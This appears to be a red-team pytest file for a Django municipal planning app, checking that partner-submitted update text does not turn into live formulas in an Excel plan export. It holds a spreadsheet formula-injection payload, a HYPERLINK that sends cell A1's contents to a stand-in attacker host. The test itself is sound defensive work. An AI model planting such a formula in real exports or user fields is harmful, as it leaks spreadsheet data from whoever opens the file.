"""Red team, regie plan export: a partner worker's text becomes a live formula in the
area director's spreadsheet.

``reports.plan_xlsx`` writes the measure updates' free text (narrative, deliverables
done) into the workbook as is. openpyxl stores a string that starts with "=" as a
formula, so the narrative a partner worker submits ("=HYPERLINK(...)") is executed by
Excel when the area director or the steering group opens the export (spreadsheet
formula injection)."""

from __future__ import annotations

import io

import pytest
from django.db.models import Q
from openpyxl import load_workbook

from wijkregie.core.models import User
from wijkregie.regie import services
from wijkregie.regie.models import Measure, MeasureUpdate

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("https://aanvaller.example/?d="&A1,"Klik voor de bijlage")'


def test_update_text_is_no_formula_in_the_export(demo, login):
    agent = User.objects.get(username="agent")
    measure = (Measure.objects.filter(plan__programme_area__municipality=agent.municipality)
               .filter(Q(lead_organisation=agent.organisation)
                       | Q(contributing_organisations=agent.organisation)).first())
    taken = set(MeasureUpdate.objects.filter(measure=measure).values_list("year", "quarter"))
    year, quarter = next((y, q) for y in range(measure.start.year, measure.end.year + 1)
                         for q in (1, 2, 3, 4) if (y, q) not in taken)
    services.create_update(user=agent, measure=measure, year=year, quarter=quarter,
                           narrative=PAYLOAD, deliverables_done="=1+1")
    response = login("regisseur").get(f"/regie/plans/{measure.plan_id}/export.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    formulas = [cell.coordinate for sheet in book for row in sheet.iter_rows()
                for cell in row if cell.data_type == "f"]
    assert formulas == []
